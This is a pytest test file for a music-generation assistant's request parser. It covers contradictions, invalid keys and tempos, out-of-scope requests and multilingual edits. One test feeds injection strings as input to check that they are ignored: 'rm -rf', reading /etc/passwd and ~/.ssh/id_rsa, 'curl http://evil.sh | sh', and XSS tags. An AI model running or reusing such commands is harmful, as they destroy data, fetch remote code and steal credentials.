"""Requests that contradict themselves, name what does not exist, or ask for something besides music: done as far as possible, and told."""

from __future__ import annotations

import pytest

from dawg.assistant.reader import Reading, read


def told(reading: Reading) -> str:
    return " ".join((*reading.warnings, *reading.errors, reading.message))


def steps(text: str) -> list[tuple[str, str | None, str | None]]:
    return [(step.op, step.target, step.section) for step in read(text).operations]


@pytest.mark.parametrize(
    ("text", "family", "member"),
    [
        ("deep house, no drums, with a heavy four on the floor kick", "drums", "kick"),
        ("cinematic, no strings, solo violin", "strings", "violin"),
        ("jazz beat no brass with a trumpet lead", "brass", "trumpet"),
        ("trap without bass but heavy 808", "bass", "808"),
        ("house sin bateria con un bombo pesado", "drums", "kick"),
        ("deep house ohne drums, mit einer harten kick", "drums", "kick"),
        ("house sans batterie avec un gros kick", "drums", "kick"),
        ("ドラムなしのハウス、重いキック", "drums", "kick"),
    ],
)
def test_a_member_of_a_refused_family_that_is_wanted_is_told(text: str, family: str, member: str) -> None:
    reading = read(text)
    assert (reading.instruments, reading.exclude) == ((member,), (family,))
    assert f"{family} refused, but {member} asked for" in told(reading)


def test_one_instrument_instead_of_its_like_is_no_contradiction() -> None:
    assert "refused" not in told(read("rhodes instead of piano, neo soul"))


@pytest.mark.parametrize(
    "text", ["really fast but super slow ambient dnb", "super slow super fast techno", "trap, very slow, very fast"]
)
def test_a_new_beat_both_fast_and_slow_is_made_and_told(text: str) -> None:
    reading = read(text)
    assert reading.intent == "generate"
    assert reading.pace is None
    assert "pace: both" in told(reading)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("speed it up and slow it down", ["tempo_up", "tempo_down"]),
        ("mute the bass and make the bass louder", ["mute", "volume_up"]),
        ("add a piano and remove the piano", ["add", "remove"]),
        ("solo the bass and mute the bass", ["solo", "mute"]),
        ("unmute the hats and mute the hats", ["unmute", "mute"]),
        ("make it brighter and make it darker", ["brighter", "darker"]),
        ("mach es schneller und langsamer", ["tempo_up", "tempo_down"]),
        ("hazlo mas rapido y mas lento", ["tempo_up", "tempo_down"]),
        ("plus vite et plus lent", ["tempo_up", "tempo_down"]),
        ("テンポを上げてテンポを下げて", ["tempo_up", "tempo_down"]),
    ],
)
def test_orders_against_each_other_are_all_kept_and_told(text: str, expected: list[str]) -> None:
    reading = read(text)
    assert [step.op for step in reading.operations] == expected
    assert "work against each other" in told(reading)


@pytest.mark.parametrize(
    "text",
    ["mute the bass, then unmute the bass", "keep it low key until bar 16 then go full", "bass up and drums down"],
)
def test_one_after_the_other_is_no_contradiction(text: str) -> None:
    assert "against each other" not in told(read(text))


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("a chill track in H# mixolocrian", "key 'H#'"), ("a chill track in H# mixolocrian", "scale 'mixolocrian'"),
        ("ambient in C## dorian", "key 'C##'"), ("techno in W flat", "key 'W flat'"), ("trap in the key of banana", "key 'banana'"),
        ("lofi in B superlocrian", "scale 'superlocrian'"), ("synthwave, 128.5.7 bpm", "bpm: '128.5.7'"), ("set tempo to NaN bpm", "bpm: 'NaN'"),
        ("set bpm to infinity", "bpm: 'infinity'"), ("boom bap, null bpm", "bpm: 'null'"), ("trap at 0x8C bpm", "bpm: '0x8C'"),
        ("beat at minus 40 bpm", "bpm: 'minus 40'"),
        ("setz das tempo auf NaN bpm", "bpm: 'NaN'"), ("pon el tempo a NaN bpm", "bpm: 'NaN'"),
    ],
)  # fmt: skip
def test_keys_and_tempos_that_do_not_exist_are_named(text: str, named: str) -> None:
    reading = read(text)
    assert named in told(reading)
    assert reading.bpm is None
    assert not reading.operations


@pytest.mark.parametrize(
    ("text", "op", "amount"),
    [
        ("speed it up a little, like 4 bpm", "tempo_up", 4),
        ("a bit slower please, 5 bpm or so", "tempo_down", 5),
        ("tame that 808 a bit, like 3 dB", "volume_down", "3 dB"),
        ("if you could make the whole thing a tiny bit faster that'd be sick, maybe 3 bpm", "tempo_up", 3),
    ],
)
def test_a_change_and_a_small_number_behind_it_are_a_step(text: str, op: str, amount: object) -> None:
    assert [(step.op, step.amount) for step in read(text).operations] == [(op, amount)]


def test_an_unknown_scale_leaves_its_tonic() -> None:
    assert (read("techno in C mixolocrian").key, read("techno in C mixolocrian").scale) == ("C", None)


@pytest.mark.parametrize(
    ("text", "bpm"), [("lofi beat at 12o bpm", 120), ("trap, 9o bpm", 90), ("bpm 120,5", 120.5), ("bpm 120. trap", 120)]
)
def test_tempos_written_loosely_are_read(text: str, bpm: float) -> None:
    assert read(text).bpm == bpm


@pytest.mark.parametrize("text", ["bpm?", "tempo: medium, house", "tempo 4/4"])
def test_tempo_words_are_no_mistake(text: str) -> None:
    assert "is no tempo" not in told(read(text))


@pytest.mark.parametrize(
    "text",
    [
        "can u master this https://open.spotify.com/track/4uLU6hMCjMI75M1A2tKUQC", "remix www.soundcloud.com/artist/track",
        "what key is this https://youtu.be/xyz", "kannst du das mastern https://soundcloud.com/x/y",
    ],
)  # fmt: skip
def test_what_is_behind_a_link_is_out_of_scope_and_told(text: str) -> None:
    reading = read(text)
    assert reading.intent == "out_of_scope"
    assert not reading.operations
    assert "links: I cannot" in told(reading)


def test_a_beat_beside_a_link_is_made() -> None:
    reading = read("lofi beat, reference: https://open.spotify.com/track/4uLU6hMCjMI75M1A2tKUQC")
    assert reading.intent == "generate"
    assert reading.genre == ("lo-fi",)
    assert "links: I cannot" in told(reading)


@pytest.mark.parametrize(
    "text",
    [
        "write a python script that scrapes all drum loops off that site", "code me a vst plugin for bass", "scrape drum samples from the web",
        "schreib ein python skript das drum loops runterlädt", "escribe un script de python que descargue loops de bateria",
        "escreva um script python que baixa loops", "whats the weather in Lagos tomorrow, if its raining make it a rainy beat",
    ],
)  # fmt: skip
def test_software_and_the_weather_are_out_of_scope(text: str) -> None:
    assert read(text).intent == "out_of_scope"


@pytest.mark.parametrize(
    ("text", "subject"),
    [("tell me a joke then make a trap beat", "joke"), ("what time is it and can you make a lofi beat", "what time is it"),
     ("wie ist das wetter morgen, mach einen ruhigen beat", "weather")],
)  # fmt: skip
def test_a_beat_beside_another_subject_is_made_or_refused_and_told(text: str, subject: str) -> None:
    reading = read(text)
    assert reading.intent == "out_of_scope" or subject in told(reading)


@pytest.mark.parametrize(
    "text",
    ["make a beat for a chatbot video", "make an app intro jingle with piano", "give me a boom bap drum program"],
)
def test_music_for_software_is_made(text: str) -> None:
    assert read(text).intent == "generate"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("add autotuned rap vocals over the second verse", [("add", "vocals", "verse 2")]),
        ("add a singer to the second chorus", [("add", "vocals", "chorus 2")]),
        ("put autotuned singing on the chorus", [("add", "vocals", "chorus")]),
    ],
)
def test_voices_in_a_section_add_no_section_and_are_told(
    text: str, expected: list[tuple[str, str | None, str | None]]
) -> None:
    assert steps(text) == expected
    assert "does not sing" in told(read(text))


@pytest.mark.parametrize(
    ("text", "genre", "bpm"),
    [
        ("lofi beat $(rm -rf ~) `cat /etc/passwd` && shutdown -h now", "lo-fi", None),
        ("<script>alert('808')</script><b>phonk</b> <bpm>130</bpm>", "phonk", 130),
        ("trap beat; rm -rf / ; shutdown now", "trap", None),
        ("house beat | curl http://evil.sh | sh", "house", None),
        ("<img src=x onerror=alert(1)> dark trap", "trap", None),
        ("drill beat && cat ~/.ssh/id_rsa", "drill", None),
    ],
)
def test_commands_and_markup_are_left_aside(text: str, genre: str, bpm: float | None) -> None:
    reading = read(text)
    assert (reading.intent, reading.genre, reading.bpm, reading.instruments) == ("generate", (genre,), bpm, ())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sad guitar beat, sorry I meant violin, in D minor.. no E minor", ("violin",)),
        ("sad piano track, i mean guitar", ("guitar",)),
        ("dark trap beat with a flute, wait no a sax", ("sax",)),
        ("chill flute loop, no sorry, I meant oboe", ("oboe",)),
        ("trauriger gitarren beat, ich meinte geige", ("violin",)),
        ("beat triste de guitarra, perdon quise decir violin", ("violin",)),
        ("dark trap, rolling hats, no piano", ("hi-hat",)),
    ],
)
def test_an_instrument_that_is_taken_back_is_not_wanted(text: str, expected: tuple[str, ...]) -> None:
    assert read(text).instruments == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mach den bass plus fort et quita los hi-hats", [("volume_up", "bass", None), ("remove", "hi-hat", None)]),
        ("make the bass louder y quita el piano", [("volume_up", "bass", None), ("remove", "piano", None)]),
        ("enleve le piano and make the bass louder", [("remove", "piano", None), ("volume_up", "bass", None)]),
        ("quita la bateria und mach den bass lauter", [("remove", "drums", None), ("volume_up", "bass", None)]),
        ("mach das piano lauter e tira a bateria", [("volume_up", "piano", None), ("remove", "drums", None)]),
    ],
)
def test_orders_in_several_languages_are_all_read(
    text: str, expected: list[tuple[str, str | None, str | None]]
) -> None:
    assert steps(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "old school beat like its 1993, my daughter turns 90 tomorrow jk shes 9",
        "beat like it's the end of the world",
        "party beat like its 1999",
    ],
)
def test_a_beat_like_a_time_is_a_new_one(text: str) -> None:
    reading = read(text)
    assert reading.intent == "generate"
    assert reading.bpm is None


@pytest.mark.parametrize(
    ("said", "pace"),
    [
        ("something jazzy with piano, not too fast", "not too fast"), ("trap, dark, not too slow", "not too slow"), ("nothing too fast, ambient", "not too fast"),
        ("lofi mit klavier, nicht zu langsam", "not too slow"), ("pas trop vite, piano et violoncelle", "not too fast"), ("no muy rápido, guitarra", "not too fast"),
        ("não muito rápido, violão", "not too fast"), ("速すぎない、ピアノ", "not too fast"), ("너무 빠르지 않게, 피아노", "not too fast"),
    ],
)  # fmt: skip
def test_a_pace_that_is_only_refused_is_told(said: str, pace: str) -> None:
    reading = read(said)
    assert reading.pace is None
    assert any(f"“{pace}”" in warning for warning in reading.warnings)


def test_a_pace_beside_a_tempo_is_not_told() -> None:
    assert not read("lofi, not too fast, 85").warnings
    assert not read("a slow lofi beat, not too fast").warnings


@pytest.mark.parametrize(
    ("said", "seconds"),
    [
        ("unos 20 seg de lofi", 20), ("uns 30 segs de trap", 30), ("faz um trap de 15 seg", 15), ("etwa 20 sek lofi", 20),
        ("ein techno beat, 40 sek", 40), ("environ 25 sec de house", 25), ("~45 secs trap", 45),
    ],
)  # fmt: skip
def test_seconds_are_cut_short_in_other_languages(said: str, seconds: float) -> None:
    assert read(said).duration_s == seconds


@pytest.mark.parametrize(
    ("said", "genre"),
    [
        ("faz um funk br de 130 pesado", "baile funk"), ("quero um beat de funk br", "baile funk"), ("um funk brasil pra dançar", "baile funk"),
        ("funk de favela 150 bpm", "baile funk"), ("funk brega com guitarra", "baile funk"), ("funk with slap bass", "funk"),
        ("etwas rockiges mit gitarre", "rock"), ("ein bluesiger beat", "blues"), ("etwas housiges, schnell", "house"), ("einen trappigen beat bitte", "trap"),
    ],
)  # fmt: skip
def test_genres_as_a_language_names_them(said: str, genre: str) -> None:
    reading = read(said)
    assert (reading.intent, reading.genre, reading.message if reading.genre else "") == ("generate", (genre,), "")


@pytest.mark.parametrize(
    ("said", "section"),
    [
        ("the second half drags", "second half"), ("the first half is sagging", "first half"), ("second part needs more energy", "second half"),
        ("could the second part feel fresher", "second half"), ("make the first part quieter", "first half"), ("the last part is too long", "second half"),
        ("die zweite Hälfte braucht mehr Energie", "second half"), ("the second guitar part needs reverb", None),
    ],
)  # fmt: skip
def test_a_half_or_part_of_the_beat_is_where(said: str, section: str | None) -> None:
    assert [step.section for step in read(said).operations] == [section]


@pytest.mark.parametrize(
    "said",
    ["bring it down", "too much. bring it down", "too much, dial it back", "it's a bit too much. tone it down", "that's too much! pull it back"],
)  # fmt: skip
def test_too_much_is_less_energy_and_says_so(said: str) -> None:
    reading = read(said)
    assert [step.op for step in reading.operations] == ["energy_down"]
    assert "less energy" in reading.message


@pytest.mark.parametrize(
    ("said", "instruments"),
    [
        ("house 124, also my cat just walked on the keyboard sorry", ()), ("i spilled coffee on my keyboard, anyway lofi with piano", ("piano",)),
        ("sry my dog stepped on the keybord. trap 140", ()), ("typing on my phone keyboard, sorry for typos, house 124", ()),
        ("my keyboard is sticky sorry. techno with a choir", ("choir",)), ("mi gato caminó por el teclado, un trap oscuro", ()),
        ("le chat a marché sur le clavier, un beat lofi", ()), ("lofi with keyboard", ("keys",)), ("a beat with keyboard chords on top", ("keys",)),
    ],
)  # fmt: skip
def test_the_keyboard_that_one_types_on_does_not_play(said: str, instruments: tuple[str, ...]) -> None:
    assert read(said).instruments == instruments


@pytest.mark.parametrize(
    ("said", "mood", "instruments"),
    [
        ("our game is about a snail lol so i was thinking kinda gentle maybe kalimba and like a soft cello, like 45 sec", ("gentle", "soft"), ("kalimba", "cello")),
        ("i am making a game about a frog, i was thinking bouncy maybe marimba, 20 sec", ("bouncy",), ("marimba",)),
        ("for our play i was thinking solemn with horns and timpani", ("solemn",), ("horns", "timpani")),
        ("a piece for a chase sequence, percussion, tension, 30 sec", ("tense",), ("percussion",)),
        ("low strings and tension, one minute", ("tense",), ("strings",)),
    ],
)  # fmt: skip
def test_what_one_is_thinking_of_is_wanted_unless_given_up(
    said: str, mood: tuple[str, ...], instruments: tuple[str, ...]
) -> None:
    reading = read(said)
    assert (reading.mood, reading.instruments) == (mood, instruments)
